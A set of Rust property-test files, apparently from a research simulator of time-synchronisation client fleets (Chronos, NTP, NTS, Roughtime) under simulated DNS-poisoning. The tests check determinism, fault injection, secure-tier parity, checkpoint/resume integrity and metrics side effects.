    // And the report's tier breakdown sees the capture.
    let report = fleet.report();
    assert_eq!(report.tiers[0].final_shifted_fraction, 1.0);
    assert_eq!(report.tiers[0].poisoned_clients, 1);
}
