//! Property tests pinning the fault-injection layer's contract:
//!
//! 1. **Fault layer off = legacy** — a default (all-zero) [`FaultPlan`]
//!    reproduces the PR 5 fleet byte-identically, and so does a
//!    spelled-out inert plan: fault draws come from dedicated substreams
//!    that consume nothing from a client's main RNG sequence, so zero
//!    probabilities mean zero perturbation.
//! 2. **Faulty runs are deterministic** — with losses, SERVFAILs,
//!    outages and serve-stale all active, reports and per-client
//!    fingerprints are byte-identical across thread counts ∈ {1,2,3,8}
//!    and shard sizes, because every fault draw is keyed on
//!    `(global id, lane, round, slot)` rather than stepping order.
//! 3. **Lossy lanes feed the real decision core** — a hand-stepped
//!    reference client (the same `chronos::core` calls the packet-level
//!    client delegates to, stepped through the *same* loss draws)
//!    reproduces a lossy fleet Chronos lane exactly: surviving sample
//!    subsets, reject → panic escalation, corrections and loss counts.
//!
//! [`FaultPlan`]: fleet::config::FaultPlan

use chronos::core::{
    conclude_panic_round, conclude_sample_round, ChronosStats, CoreState, Phase, RoundOutcome,
};
use chronos::select::SelectScratch;
use fleet::config::{FaultPlan, FleetAttack, FleetConfig, OutageWindow, ServeStalePolicy};
use fleet::engine::Fleet;
use fleet::resolver::{DnsAnswer, QuerySchedule, ResolverModel};
use fleet::rng::{client_seed, fault_f64, FaultLane, FleetRng};
use netsim::time::{SimDuration, SimTime};
use ntplab::clock::LocalClock;
use proptest::prelude::*;

fn base_config(seed: u64, clients: usize, attack_at: Option<u64>) -> FleetConfig {
    FleetConfig {
        seed,
        clients,
        record_trajectories: true,
        universe: 96,
        chronos: chronos::config::ChronosConfig {
            sample_size: 9,
            trim: 3,
            poll_interval: SimDuration::from_secs(64),
            pool: chronos::config::PoolGenConfig {
                queries: 5,
                query_interval: SimDuration::from_secs(200),
                ..chronos::config::PoolGenConfig::default()
            },
            ..chronos::config::ChronosConfig::default()
        },
        stagger: SimDuration::from_secs(150),
        sample_every: SimDuration::from_secs(120),
        horizon: SimDuration::from_secs(1_800),
        attack: attack_at.map(|t| {
            FleetAttack::paper_default(SimTime::from_secs(t), SimDuration::from_millis(500))
        }),
        ..FleetConfig::default()
    }
}

/// A plan exercising every fault lane at once: lossy NTP rounds,
/// SERVFAILs, an outage over the boot/attack window, serve-stale, and a
/// short retry ladder.
fn noisy_plan(loss: f64, servfail: f64) -> FaultPlan {
    FaultPlan {
        all_tiers: fleet::config::TierFaults {
            ntp_loss: loss,
            dns_servfail: servfail,
        },
        outages: vec![vec![OutageWindow {
            start_ns: 100 * 1_000_000_000,
            duration_ns: 400 * 1_000_000_000,
        }]],
        serve_stale: Some(ServeStalePolicy {
            max_stale_secs: 1_800,
        }),
        ..FaultPlan::default()
    }
}

/// Everything observable about one client, fault counters included.
#[derive(Debug, Clone, PartialEq)]
struct ClientFingerprint {
    trace: Vec<(SimTime, i64)>,
    pool: (usize, usize),
    stats: ChronosStats,
    faults: fleet::stats::FaultCounters,
    phase: Phase,
    final_offset_ns: i64,
}

fn fingerprint(fleet: &Fleet, i: usize) -> ClientFingerprint {
    ClientFingerprint {
        trace: fleet.trace(i).to_vec(),
        pool: fleet.client_pool(i),
        stats: fleet.client_stats(i),
        faults: fleet.client_faults(i),
        phase: fleet.client_phase(i),
        final_offset_ns: fleet.client_offset_ns(i, fleet.now()),
    }
}

proptest! {
    /// Fault layer off = legacy, byte for byte: the default plan and a
    /// spelled-out all-zero plan both reproduce the same run (and no
    /// fault counter ever moves).
    #[test]
    fn inert_plans_reproduce_the_legacy_fleet(
        seed in 1u64..400,
        n in 2usize..=6,
        attack_at in prop_oneof![Just(None), Just(Some(300u64))],
    ) {
        let config = base_config(seed, n, attack_at);
        let mut legacy = Fleet::new(config.clone());
        let legacy_report = legacy.run();
        let mut spelled_config = config;
        spelled_config.faults = FaultPlan {
            tiers: vec![fleet::config::TierFaults::default()],
            serve_stale: Some(ServeStalePolicy::default()),
            ..FaultPlan::default()
        };
        let mut spelled = Fleet::new(spelled_config);
        let spelled_report = spelled.run();
        prop_assert_eq!(&legacy_report, &spelled_report);
        prop_assert_eq!(spelled_report.faults, fleet::stats::FaultCounters::default());
        for i in 0..n {
            prop_assert_eq!(fingerprint(&legacy, i), fingerprint(&spelled, i), "client {}", i);
        }
    }

    /// Faulty runs are byte-identical for every thread count: fault
    /// draws are keyed, not sequenced, so stepping order cannot leak in.
    #[test]
    fn faulty_runs_are_thread_count_invariant(
        seed in 1u64..400,
        loss in 0.05f64..0.5,
        servfail in 0.0f64..0.4,
    ) {
        let mut config = base_config(seed, 24, Some(300));
        config.faults = noisy_plan(loss, servfail);
        config.shard_size = 8; // several shards, so threads matter
        config.threads = 1;
        let mut reference = Fleet::new(config.clone());
        let reference_report = reference.run();
        for threads in [2usize, 3, 8] {
            config.threads = threads;
            let mut fleet = Fleet::new(config.clone());
            let report = fleet.run();
            prop_assert_eq!(&reference_report, &report, "threads = {}", threads);
            for i in 0..24 {
                prop_assert_eq!(
                    fingerprint(&reference, i),
                    fingerprint(&fleet, i),
                    "client {} at {} threads", i, threads
                );
            }
        }
    }

    /// ... and for every shard size: the slab decomposition is invisible
    /// to the fault substreams (only P² quantile *estimates* may differ,
    /// as for fault-free fleets, so we compare fingerprints and the
    /// integer aggregates).
    #[test]
    fn faulty_runs_are_shard_size_invariant(
        seed in 1u64..400,
        loss in 0.05f64..0.5,
        servfail in 0.0f64..0.4,
    ) {
        let mut config = base_config(seed, 24, Some(300));
        config.faults = noisy_plan(loss, servfail);
        config.threads = 2;
        let mut coarse = Fleet::new(config.clone());
        let coarse_report = coarse.run();
        for shard_size in [5usize, 8, 24] {
            config.shard_size = shard_size;
            let mut fleet = Fleet::new(config.clone());
            let report = fleet.run();
            prop_assert_eq!(&coarse_report.shifted, &report.shifted);
            prop_assert_eq!(&coarse_report.totals, &report.totals);
            prop_assert_eq!(&coarse_report.faults, &report.faults);
            prop_assert_eq!(&coarse_report.tiers, &report.tiers);
            for i in 0..24 {
                prop_assert_eq!(
                    fingerprint(&coarse, i),
                    fingerprint(&fleet, i),
                    "client {} at shard size {}", i, shard_size
                );
            }
        }
    }

    /// The parity pin: a lossy fleet Chronos lane equals a hand-stepped
    /// reference driving the *same* `chronos::core` decision calls (the
    /// machinery the packet-level client delegates to) through the same
    /// loss draws — same surviving subsets, same reject → panic
    /// escalation, same corrections, same loss counts.
    #[test]
    fn lossy_chronos_lane_matches_hand_stepped_core(
        seed in 1u64..300,
        loss in 0.2f64..0.6,
    ) {
        let mut config = base_config(seed, 1, None);
        // Strip the mean-field noise so the reference takes the same
        // draws without replicating the noise branches: zero benign
        // imperfection and path jitter (those branches draw only when
        // their bounds are non-zero).
        config.benign_offset_ms = 0;
        config.jitter_std = SimDuration::ZERO;
        config.record_trajectories = false;
        config.faults.all_tiers.ntp_loss = loss;
        let mut fleet = Fleet::new(config.clone());
        fleet.run();

        // --- the reference: chronos::core stepped by hand ---
        let cfg = &config.chronos;
        let horizon_ns = config.horizon.as_nanos();
        let poll_ns = cfg.poll_interval.as_nanos();
        let window_ns = cfg.response_window.as_nanos();
        // Boot draws, in the engine's documented order: stagger, drift.
        let mut boot_rng = FleetRng::from_seed(client_seed(seed, 0));
        let start_ns = boot_rng.range_u64(config.stagger.as_nanos());
        let drift = config.client_drift_ppm * (2.0 * boot_rng.next_f64() - 1.0);
        let mut rng_state = boot_rng.state();
        let mut clock = LocalClock::new(0, drift);
        // The shared-cache pre-pass for this one client.
        let timeline = ResolverModel::for_resolver(&config, 0).timeline(&[QuerySchedule {
            start_ns,
            interval_ns: cfg.pool.query_interval.as_nanos(),
            rounds: cfg.pool.queries as u64,
        }]);
        // Pool generation: benign answers only (no attack, no DNS faults).
        let mut bitmap = 0u64;
        let mut stats = ChronosStats::default();
        let mut at = start_ns;
        for round in 0..cfg.pool.queries {
            stats.pool_queries += 1;
            match timeline.answer(at) {
                DnsAnswer::Benign { batch, .. } => {
                    bitmap |= 1 << (batch % config.rotation_batches() as u64);
                }
                other => prop_assert!(false, "unexpected answer {:?}", other),
            }
            if round + 1 < cfg.pool.queries {
                at += cfg.pool.query_interval.as_nanos();
            }
        }
        let benign = bitmap.count_ones() as usize * config.per_response;
        // Poll loop: the same decision calls, the same loss draws.
        let mut phase = Phase::Syncing;
        let mut retries = 0u32;
        let mut last_update: Option<SimTime> = None;
        let mut scratch = SelectScratch::new();
        let mut losses = 0u64;
        let survive = |offsets: &mut Vec<i64>, lane: FaultLane, round: u64, losses: &mut u64| {
            let mut kept = 0;
            for slot in 0..offsets.len() {
                if fault_f64(seed, 0, lane, round, slot as u64) < loss {
                    *losses += 1;
                } else {
                    offsets[kept] = offsets[slot];
                    kept += 1;
                }
            }
            offsets.truncate(kept);
        };
        while at <= horizon_ns {
            let poll_index = stats.polls;
            stats.polls += 1;
            let mut rng = FleetRng::from_seed(rng_state);
            let m = cfg.sample_size.min(benign);
            let client_off = clock.offset_from_true(SimTime::from_nanos(at));
            // Sampling consumes one pick draw per slot; all picks are
            // benign with zero server offset, so each sample is simply
            // -client_off.
            let mut offsets = Vec::with_capacity(m);
            for k in 0..m {
                let _ = rng.range_u64((benign - k) as u64);
                offsets.push(-client_off);
            }
            survive(&mut offsets, FaultLane::NtpSample, poll_index, &mut losses);
            let collect_ns = at + window_ns;
            let collect = SimTime::from_nanos(collect_ns);
            let outcome = conclude_sample_round(
                cfg,
                &mut CoreState {
                    phase: &mut phase,
                    retries: &mut retries,
                    last_update: &mut last_update,
                    stats: &mut stats,
                },
                &mut scratch,
                &offsets,
                collect,
            );
            match outcome {
                RoundOutcome::Accept { correction_ns, .. } => {
                    clock.apply_correction(collect, correction_ns);
                    rng_state = rng.state();
                    at = collect_ns + poll_ns;
                }
                RoundOutcome::Resample => {
                    rng_state = rng.state();
                    at = collect_ns;
                }
                RoundOutcome::EnterPanic => {
                    // Whole-pool panic round, one response window later.
                    let episode = stats.panics;
                    let panic_off = clock.offset_from_true(collect);
                    let mut pool: Vec<i64> = vec![-panic_off; benign];
                    survive(&mut pool, FaultLane::PanicSample, episode, &mut losses);
                    let panic_ns = collect_ns + window_ns;
                    let panic_at = SimTime::from_nanos(panic_ns);
                    let correction = conclude_panic_round(
                        &mut CoreState {
                            phase: &mut phase,
                            retries: &mut retries,
                            last_update: &mut last_update,
                            stats: &mut stats,
                        },
                        &mut scratch,
                        &pool,
                        panic_at,
                    );
                    if let Some(c) = correction {
                        clock.apply_correction(panic_at, c);
                    }
                    rng_state = rng.state();
                    at = panic_ns + poll_ns;
                }
            }
        }
        prop_assert_eq!(fleet.client_stats(0), stats);
        prop_assert_eq!(fleet.client_faults(0).ntp_losses, losses);
        prop_assert_eq!(fleet.client_phase(0), phase);
        prop_assert_eq!(fleet.client_pool(0), (benign, 0));
        let now = fleet.now();
        prop_assert_eq!(
            fleet.client_offset_ns(0, now),
            clock.offset_from_true(now),
            "lossy trajectory endpoint matches the hand-stepped core"
        );
    }
}
