//! Property tests pinning the secure tiers' *parity* contracts — the
//! semantic claims that make the E18 deployment sweep trustworthy:
//!
//! 1. **NTS post-association immunity** — NTS time samples are
//!    authenticated, so a poison window that opens strictly after every
//!    association event (all boots done, no re-key before the horizon)
//!    is *invisible*: the attacked fleet is byte-identical to the same
//!    fleet with no attack at all, captures included (zero).
//! 2. **Roughtime M = 1 is a plain fetch** — a single-source Roughtime
//!    client trusts its lone source blindly (the ETH2-Medalla failure
//!    mode), so under a noise-free matched scenario it lands exactly
//!    where a single-server plain-NTP client lands: on the lie when the
//!    resolver is poisoned at boot, on zero when it is clean.
//! 3. **Mixed-fleet equivalence, secure tiers included** — with
//!    `shared_cache: false` a four-tier Chronos/plain/NTS/Roughtime
//!    fleet is byte-identical, client by client, to matched one-client
//!    fleets (same tier, same `first_client_id`), extending the cohort
//!    layer's solo-run equivalence to the secure lanes' association,
//!    re-key and multi-source state.

use fleet::cohort::CohortTier;
use fleet::config::{FleetAttack, FleetConfig};
use fleet::engine::Fleet;
use netsim::time::{SimDuration, SimTime};
use proptest::prelude::*;

const SHIFT_NS: i64 = 500_000_000;

fn base_chronos() -> chronos::config::ChronosConfig {
    chronos::config::ChronosConfig {
        sample_size: 9,
        trim: 3,
        poll_interval: SimDuration::from_secs(64),
        pool: chronos::config::PoolGenConfig {
            queries: 5,
            query_interval: SimDuration::from_secs(200),
            ..chronos::config::PoolGenConfig::default()
        },
        ..chronos::config::ChronosConfig::default()
    }
}

/// Everything observable about one client, secure-lane state included.
#[derive(Debug, Clone, PartialEq)]
struct ClientFingerprint {
    trace: Vec<(SimTime, i64)>,
    pool: (usize, usize),
    stats: chronos::core::ChronosStats,
    secure: fleet::stats::SecureCounters,
    sources: (u32, u32),
    assoc_expiry: Option<SimTime>,
    phase: chronos::core::Phase,
    tier: usize,
    resolver: usize,
    final_offset_ns: i64,
}

fn fingerprint(fleet: &Fleet, i: usize) -> ClientFingerprint {
    ClientFingerprint {
        trace: fleet.trace(i).to_vec(),
        pool: fleet.client_pool(i),
        stats: fleet.client_stats(i),
        secure: fleet.client_secure(i),
        sources: fleet.client_sources(i),
        assoc_expiry: fleet.client_association_expiry(i),
        phase: fleet.client_phase(i),
        tier: fleet.client_tier(i),
        resolver: fleet.client_resolver(i),
        final_offset_ns: fleet.client_offset_ns(i, fleet.now()),
    }
}

/// An all-NTS fleet whose only association event is the boot handshake:
/// the re-key cadence sits far beyond the horizon.
fn nts_boot_only_config(seed: u64, clients: usize, resolvers: usize) -> FleetConfig {
    let mut nts = CohortTier::nts("nts", 1);
    nts.rekey_interval = Some(SimDuration::from_secs(1_000_000));
    FleetConfig {
        seed,
        clients,
        resolvers,
        tiers: vec![nts],
        record_trajectories: true,
        universe: 96,
        chronos: base_chronos(),
        stagger: SimDuration::from_secs(150),
        sample_every: SimDuration::from_secs(120),
        horizon: SimDuration::from_secs(1_800),
        ..FleetConfig::default()
    }
}

/// A noise-free single-resolver scenario (no stagger, drift, benign
/// offset or jitter) so the Medalla parity is exact, not statistical.
fn noise_free_config(seed: u64, clients: usize, tier: CohortTier, lying: bool) -> FleetConfig {
    FleetConfig {
        seed,
        clients,
        resolvers: 1,
        tiers: vec![tier],
        stagger: SimDuration::ZERO,
        client_drift_ppm: 0.0,
        benign_offset_ms: 0,
        jitter_std: SimDuration::ZERO,
        horizon: SimDuration::from_secs(400),
        attack: lying.then(|| {
            FleetAttack::paper_default(SimTime::ZERO, SimDuration::from_nanos(SHIFT_NS as u64))
        }),
        ..FleetConfig::default()
    }
}

proptest! {
    /// Poison that lands strictly after every NTS association is
    /// invisible: the attacked fleet reproduces the clean one byte for
    /// byte — authenticated samples leave no channel for a poisoned
    /// cache the client never consults again.
    #[test]
    fn nts_poison_after_associations_equals_the_clean_run(
        seed in 1u64..300,
        clients in 4usize..=12,
        resolvers in 1usize..=3,
        attack_at in 400u64..1_200,
    ) {
        let clean = nts_boot_only_config(seed, clients, resolvers);
        let mut attacked = clean.clone();
        // All boots finish inside the 150 s stagger (resolutions are
        // immediate without a fault plan), so the poison opens strictly
        // after the last association.
        attacked.attack = Some(FleetAttack::paper_default(
            SimTime::from_secs(attack_at),
            SimDuration::from_millis(500),
        ));
        let mut a = Fleet::new(attacked);
        let mut b = Fleet::new(clean);
        let attacked_report = a.run();
        let clean_report = b.run();
        prop_assert_eq!(attacked_report.secure.captured_associations, 0);
        prop_assert_eq!(&attacked_report, &clean_report);
        for i in 0..clients {
            prop_assert_eq!(fingerprint(&a, i), fingerprint(&b, i), "client {}", i);
        }
    }

    /// The Medalla degeneracy: Roughtime at M = 1 is a single-server
    /// plain fetch. Under a noise-free matched scenario both clients
    /// land on exactly the same offset every run — the full lie when
    /// the lone resolver was poisoned at boot, zero when it was clean.
    #[test]
    fn roughtime_single_source_matches_a_single_server_plain_fetch(
        seed in 1u64..200,
        clients in 1usize..=8,
        lying in any::<bool>(),
    ) {
        let mut medalla = CohortTier::roughtime("rt-1", 1);
        medalla.sources = Some(1);
        let mut plain = CohortTier::plain_ntp("plain-1", 1);
        plain.pool_size = Some(1);
        let mut rt_fleet = Fleet::new(noise_free_config(seed, clients, medalla, lying));
        let mut plain_fleet = Fleet::new(noise_free_config(seed, clients, plain, lying));
        let rt_report = rt_fleet.run();
        let plain_report = plain_fleet.run();
        prop_assert_eq!(
            rt_report.final_shifted_fraction,
            plain_report.final_shifted_fraction
        );
        let expected = if lying { SHIFT_NS } else { 0 };
        for i in 0..clients {
            let rt_off = rt_fleet.client_offset_ns(i, rt_fleet.now());
            let plain_off = plain_fleet.client_offset_ns(i, plain_fleet.now());
            prop_assert_eq!(rt_off, plain_off, "client {} offsets diverged", i);
            prop_assert_eq!(rt_off, expected, "client {} missed the endpoint", i);
            prop_assert_eq!(
                rt_fleet.client_stats(i).polls,
                plain_fleet.client_stats(i).polls,
                "client {} cadence diverged", i
            );
            let secure = rt_fleet.client_secure(i);
            prop_assert_eq!(secure.captured_associations, u64::from(lying));
            // One source can never disagree with itself: blind trust,
            // zero detections — redundancy, not signatures, is the
            // defense Roughtime loses at M = 1.
            prop_assert_eq!(secure.detected_inconsistencies, 0);
        }
    }

    /// Solo-run equivalence extends to the secure tiers: every client of
    /// a four-tier Chronos/plain/NTS/Roughtime fleet (per-client caches)
    /// reproduces byte-identically in a one-client fleet of its own tier
    /// at its own global id — association expiry, captured source sets
    /// and re-key counters included.
    #[test]
    fn four_tier_fleet_equals_matched_solo_runs(
        seed in 1u64..300,
        clients in 4usize..=8,
        resolvers in 1usize..=3,
        attack_at in prop_oneof![Just(None), Just(Some(100u64)), Just(Some(400u64))],
    ) {
        let mut nts = CohortTier::nts("nts", 1);
        // Short key lifetime and re-key cadence so association renewal
        // (and mid-run expiry) happens inside the horizon.
        nts.key_lifetime = Some(SimDuration::from_secs(900));
        nts.rekey_interval = Some(SimDuration::from_secs(600));
        let config = FleetConfig {
            seed,
            clients,
            shared_cache: false,
            resolvers,
            tiers: vec![
                CohortTier::chronos("chronos", 2),
                CohortTier::plain_ntp("plain ntp", 1),
                nts,
                CohortTier::roughtime("roughtime", 1),
            ],
            record_trajectories: true,
            universe: 96,
            chronos: base_chronos(),
            stagger: SimDuration::from_secs(150),
            sample_every: SimDuration::from_secs(120),
            horizon: SimDuration::from_secs(1_800),
            attack: attack_at.map(|t| {
                FleetAttack::paper_default(SimTime::from_secs(t), SimDuration::from_millis(500))
            }),
            ..FleetConfig::default()
        };
        let mut fleet = Fleet::new(config.clone());
        fleet.run();
        for i in 0..clients {
            let tier_idx = fleet.client_tier(i);
            let mut solo_config = config.clone();
            solo_config.clients = 1;
            solo_config.first_client_id = i as u64;
            solo_config.tiers = vec![config.tiers[tier_idx].clone()];
            let mut solo = Fleet::new(solo_config);
            solo.run();
            let mut expected = fingerprint(&fleet, i);
            expected.tier = 0;
            prop_assert_eq!(
                expected,
                fingerprint(&solo, 0),
                "client {} of the four-tier fleet diverged from its solo run",
                i
            );
        }
    }
}
