//! Property tests pinning the checkpoint/resume contract: a fleet
//! snapshotted at an arbitrary `run_until` boundary and restored from the
//! serialized bytes ([`Fleet::checkpoint`] / [`Fleet::restore`]) finishes
//! the run **byte-identically** to one that never stopped — the whole
//! report (shifted series, histogram bins, P² quantile estimates, totals,
//! fault counters, per-tier breakdowns) and every per-client end state
//! (trajectory, pool composition, counters, phase, final offset) — across
//! thread counts {1, 4} and shard sizes. The restore path re-derives
//! structural state (tier params, resolver timelines) from the embedded
//! config and rebuilds the timer wheels by re-filing every pending
//! deadline, so these tests are what make that reconstruction trustworthy.

use fleet::cohort::CohortTier;
use fleet::config::{FaultPlan, FleetAttack, FleetConfig, TierFaults};
use fleet::engine::Fleet;
use netsim::time::{SimDuration, SimTime};
use proptest::prelude::*;

/// A deliberately heterogeneous scenario: mixed Chronos/plain-NTP/NTS/
/// Roughtime tiers over multiple resolvers, mid-generation poisoning,
/// and (optionally) a lossy fault plan — so the snapshot covers every
/// state column the engine owns (the secure tiers' association-expiry
/// and packed source-set columns included), not just the happy path.
/// The NTS cadence is short enough that re-keys — and key expiries —
/// straddle arbitrary checkpoint cuts.
fn config(
    seed: u64,
    clients: usize,
    shard_size: usize,
    resolvers: usize,
    lossy: bool,
    attack_at: Option<u64>,
) -> FleetConfig {
    let mut nts = CohortTier::nts("nts", 1);
    nts.key_lifetime = Some(SimDuration::from_secs(900));
    nts.rekey_interval = Some(SimDuration::from_secs(600));
    FleetConfig {
        seed,
        clients,
        shard_size,
        resolvers,
        tiers: vec![
            CohortTier::chronos("chronos", 2),
            CohortTier::plain_ntp("plain", 1),
            nts,
            CohortTier::roughtime("roughtime", 1),
        ],
        record_trajectories: true,
        universe: 96,
        chronos: chronos::config::ChronosConfig {
            sample_size: 9,
            trim: 3,
            poll_interval: SimDuration::from_secs(64),
            pool: chronos::config::PoolGenConfig {
                queries: 5,
                query_interval: SimDuration::from_secs(200),
                ..chronos::config::PoolGenConfig::default()
            },
            ..chronos::config::ChronosConfig::default()
        },
        faults: if lossy {
            FaultPlan {
                all_tiers: TierFaults {
                    ntp_loss: 0.08,
                    dns_servfail: 0.05,
                },
                ..FaultPlan::default()
            }
        } else {
            FaultPlan::default()
        },
        stagger: SimDuration::from_secs(150),
        sample_every: SimDuration::from_secs(120),
        horizon: SimDuration::from_secs(1_800),
        attack: attack_at.map(|t| {
            FleetAttack::paper_default(SimTime::from_secs(t), SimDuration::from_millis(500))
        }),
        ..FleetConfig::default()
    }
}

/// Everything observable about one client.
#[derive(Debug, Clone, PartialEq)]
struct ClientFingerprint {
    trace: Vec<(SimTime, i64)>,
    pool: (usize, usize),
    stats: chronos::core::ChronosStats,
    faults: fleet::stats::FaultCounters,
    secure: fleet::stats::SecureCounters,
    sources: (u32, u32),
    assoc_expiry: Option<SimTime>,
    phase: chronos::core::Phase,
    final_offset_ns: i64,
}

fn fingerprint(fleet: &Fleet, i: usize) -> ClientFingerprint {
    ClientFingerprint {
        trace: fleet.trace(i).to_vec(),
        pool: fleet.client_pool(i),
        stats: fleet.client_stats(i),
        faults: fleet.client_faults(i),
        secure: fleet.client_secure(i),
        sources: fleet.client_sources(i),
        assoc_expiry: fleet.client_association_expiry(i),
        phase: fleet.client_phase(i),
        final_offset_ns: fleet.client_offset_ns(i, fleet.now()),
    }
}

proptest! {
    /// The acceptance property: save at an arbitrary boundary, restore,
    /// finish → byte-identical to the uninterrupted run, for
    /// threads ∈ {1, 4} on both sides of the snapshot and varying shard
    /// sizes.
    #[test]
    fn resume_equals_uninterrupted_run(
        seed in 1u64..300,
        clients in 8usize..=20,
        shard_size in 3usize..=7,
        resolvers in 1usize..=3,
        lossy in any::<bool>(),
        attack_at in prop_oneof![Just(None), Just(Some(300u64))],
        cut in 1u64..1_800,
        threads_before in prop_oneof![Just(1usize), Just(4usize)],
        threads_after in prop_oneof![Just(1usize), Just(4usize)],
    ) {
        let base = config(seed, clients, shard_size, resolvers, lossy, attack_at);
        let horizon = SimTime::ZERO + base.horizon;
        let mut uninterrupted = Fleet::new(base.clone());
        uninterrupted.run_until(horizon);

        let mut first_leg = Fleet::new(FleetConfig { threads: threads_before, ..base.clone() });
        first_leg.run_until(SimTime::from_secs(cut));
        let snapshot = first_leg.checkpoint();

        let mut resumed = Fleet::restore(&snapshot).expect("snapshot decodes");
        prop_assert_eq!(resumed.now(), SimTime::from_secs(cut));
        resumed.set_threads(threads_after);
        resumed.run_until(horizon);

        prop_assert_eq!(
            uninterrupted.report(),
            resumed.report(),
            "resumed report diverged (cut at {}s, threads {}->{})",
            cut, threads_before, threads_after
        );
        for i in 0..clients {
            prop_assert_eq!(
                fingerprint(&uninterrupted, i),
                fingerprint(&resumed, i),
                "client {} diverged after resume", i
            );
        }
    }

    /// A snapshot is a pure function of simulation state: checkpointing
    /// the restored fleet immediately reproduces the original bytes, and
    /// a double hop (restore → run → checkpoint → restore → finish) still
    /// lands on the uninterrupted run.
    #[test]
    fn checkpoints_are_stable_across_hops(
        seed in 1u64..300,
        cut1 in 200u64..800,
        extra in 100u64..600,
    ) {
        let base = config(seed, 12, 5, 2, true, Some(300));
        let horizon = SimTime::ZERO + base.horizon;
        let mut fleet = Fleet::new(base.clone());
        fleet.run_until(SimTime::from_secs(cut1));
        let snapshot = fleet.checkpoint();
        let restored = Fleet::restore(&snapshot).expect("decodes");
        prop_assert_eq!(
            snapshot,
            restored.checkpoint(),
            "restore → checkpoint must reproduce the bytes"
        );
        // Second hop from a later boundary.
        let mut second = Fleet::restore(&restored.checkpoint()).expect("decodes");
        let cut2 = (cut1 + extra).min(1_800);
        second.run_until(SimTime::from_secs(cut2));
        let mut third = Fleet::restore(&second.checkpoint()).expect("decodes");
        third.run_until(horizon);
        let mut uninterrupted = Fleet::new(base);
        uninterrupted.run_until(horizon);
        prop_assert_eq!(uninterrupted.report(), third.report(), "double hop diverged");
    }
}

#[test]
fn garbage_and_tampering_are_rejected() {
    let mut fleet = Fleet::new(config(7, 10, 4, 2, false, Some(300)));
    fleet.run_until(SimTime::from_secs(500));
    let snapshot = fleet.checkpoint();

    assert!(Fleet::restore(&[]).is_err(), "empty buffer");
    assert!(Fleet::restore(b"not a checkpoint").is_err(), "junk");
    let mut flipped = snapshot.clone();
    flipped[snapshot.len() / 2] ^= 0x01;
    assert!(Fleet::restore(&flipped).is_err(), "bit flip detected");
    let truncated = &snapshot[..snapshot.len() - 9];
    assert!(Fleet::restore(truncated).is_err(), "truncation detected");
    // The pristine bytes still decode after all that.
    assert!(Fleet::restore(&snapshot).is_ok());
}
