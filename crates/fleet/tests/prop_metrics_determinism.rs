//! Property test pinning the chronoscope side-channel contract: a
//! metrics-enabled fleet run is **byte-identical** to a metrics-off run —
//! same [`fleet::FleetReport`], same per-client end states — across
//! thread counts {1, 4} and shard sizes. Instrumentation consumes zero
//! RNG draws and touches only wall-clock atomics, so nothing it records
//! can leak back into the simulation.

use fleet::config::{FleetAttack, FleetConfig};
use fleet::engine::Fleet;
use fleet::metrics::FleetMetrics;
use netsim::time::{SimDuration, SimTime};
use proptest::prelude::*;
use std::sync::Arc;

fn base_config(
    seed: u64,
    clients: usize,
    shard_size: usize,
    threads: usize,
    attack_at: Option<u64>,
) -> FleetConfig {
    FleetConfig {
        seed,
        clients,
        shard_size,
        threads,
        shared_cache: true,
        universe: 96,
        chronos: chronos::config::ChronosConfig {
            sample_size: 9,
            trim: 3,
            poll_interval: SimDuration::from_secs(64),
            pool: chronos::config::PoolGenConfig {
                queries: 5,
                query_interval: SimDuration::from_secs(200),
                ..chronos::config::PoolGenConfig::default()
            },
            ..chronos::config::ChronosConfig::default()
        },
        stagger: SimDuration::from_secs(150),
        sample_every: SimDuration::from_secs(120),
        horizon: SimDuration::from_secs(1_800),
        attack: attack_at.map(|t| {
            FleetAttack::paper_default(SimTime::from_secs(t), SimDuration::from_millis(500))
        }),
        ..FleetConfig::default()
    }
}

/// Everything observable about one client at the end of a run.
#[derive(Debug, Clone, PartialEq)]
struct ClientFingerprint {
    pool: (usize, usize),
    stats: chronos::core::ChronosStats,
    faults: fleet::stats::FaultCounters,
    phase: chronos::core::Phase,
    final_offset_ns: i64,
}

fn fingerprint(fleet: &Fleet, i: usize) -> ClientFingerprint {
    ClientFingerprint {
        pool: fleet.client_pool(i),
        stats: fleet.client_stats(i),
        faults: fleet.client_faults(i),
        phase: fleet.client_phase(i),
        final_offset_ns: fleet.client_offset_ns(i, fleet.now()),
    }
}

proptest! {
    /// The headline property: attach a [`FleetMetrics`] and nothing in
    /// the simulation changes — report and every per-client end state
    /// are byte-identical, for sequential and 4-worker stepping and
    /// across shard layouts.
    #[test]
    fn metrics_on_is_byte_identical_to_metrics_off(
        seed in 1u64..400,
        clients in 4usize..=24,
        shard_size in prop_oneof![Just(4usize), Just(7), Just(1024)],
        threads in prop_oneof![Just(1usize), Just(4)],
        attack_at in prop_oneof![Just(None), Just(Some(300u64)), Just(Some(700u64))],
    ) {
        let config = base_config(seed, clients, shard_size, threads, attack_at);
        let mut plain = Fleet::new(config.clone());
        let plain_report = plain.run();

        let metrics = Arc::new(FleetMetrics::detached());
        let mut metered = Fleet::new(config);
        metered.set_metrics(Some(metrics.clone()));
        let metered_report = metered.run();

        prop_assert_eq!(&plain_report, &metered_report);
        for i in 0..clients {
            prop_assert_eq!(
                fingerprint(&plain, i),
                fingerprint(&metered, i),
                "client {} diverged under instrumentation",
                i
            );
        }
        // The side channel did observe the run (one slice per shard, the
        // events counter matches the report).
        prop_assert!(metrics.shard_slice.total() >= 1);
        prop_assert_eq!(metrics.events.get(), metered_report.events);
    }

    /// Checkpoint/resume with instrumentation attached on both sides of
    /// the cut: the restored-and-metered continuation matches the
    /// uninterrupted unmetered run, and the restore/encode stages were
    /// timed without perturbing anything.
    #[test]
    fn metered_checkpoint_resume_matches_unmetered_run(
        seed in 1u64..200,
        clients in 4usize..=16,
        threads in prop_oneof![Just(1usize), Just(4)],
        cut_s in 300u64..1_500,
    ) {
        let config = base_config(seed, clients, 8, threads, Some(400));
        let mut plain = Fleet::new(config.clone());
        let plain_report = plain.run();

        let metrics = Arc::new(FleetMetrics::detached());
        let mut first = Fleet::new(config);
        first.set_metrics(Some(metrics.clone()));
        first.run_until(SimTime::from_secs(cut_s));
        let snapshot = first.checkpoint();
        let mut resumed = Fleet::restore_with(&snapshot, Some(metrics.clone()))
            .expect("snapshot decodes");
        let resumed_report = resumed.run();

        prop_assert_eq!(&plain_report, &resumed_report);
        prop_assert_eq!(metrics.checkpoint_encode.total(), 1);
        prop_assert_eq!(metrics.checkpoint_restore.total(), 1);
        prop_assert_eq!(metrics.checkpoint_bytes.get(), snapshot.len() as u64);
    }
}
